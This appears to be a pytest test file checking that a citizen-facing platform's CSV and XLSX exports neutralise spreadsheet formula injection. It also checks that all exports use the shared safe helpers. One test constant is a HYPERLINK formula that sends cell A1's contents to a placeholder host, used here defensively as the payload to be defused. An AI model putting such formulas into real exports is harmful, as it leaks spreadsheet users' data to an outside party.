"""Text typed by a citizen stays text in every CSV and XLSX the platform writes (formula injection)."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from cchc.common.spreadsheets import csv_safe, csv_writer, xlsx_bytes

HOSTILE = '=HYPERLINK("http://x/?"&A1,"Bấm")'
SRC = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize("value", [HOSTILE, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_text_that_starts_a_formula_is_quoted_in_csv(value: str) -> None:
    out = io.StringIO()
    csv_writer(out).writerow([value, 12, None])
    (row,) = list(csv.reader(io.StringIO(out.getvalue())))
    assert row[0] == "'" + value
    assert row[1] == "12"


@pytest.mark.parametrize("value", ["Nguyễn Thị Lan", "56-260105-0001", "", "a=b", "100 %"])
def test_ordinary_text_and_numbers_are_left_alone(value: str) -> None:
    assert csv_safe(value) == value
    assert csv_safe(-5) == -5
    assert csv_safe(1.5) == 1.5


def test_an_xlsx_text_cell_is_never_a_formula() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append([HOSTILE, 3, "Bình thường"])
    content = xlsx_bytes(book)
    cell = load_workbook(io.BytesIO(content)).active["A1"]  # type: ignore[index]
    assert cell.data_type == "s"
    assert cell.value == HOSTILE
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml


def test_every_csv_and_xlsx_writer_goes_through_the_shared_helpers() -> None:
    """A new export that calls ``csv.writer`` or saves a workbook itself would bypass the protection."""
    offenders = []
    for path in SRC.rglob("*.py"):
        if "tests" in path.parts or path.name == "spreadsheets.py":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"\bcsv\.(writer|DictWriter)\(", text) or re.search(r"\b(book|workbook|wb)\.save\(", text):
            offenders.append(str(path.relative_to(SRC)))
    assert offenders == []
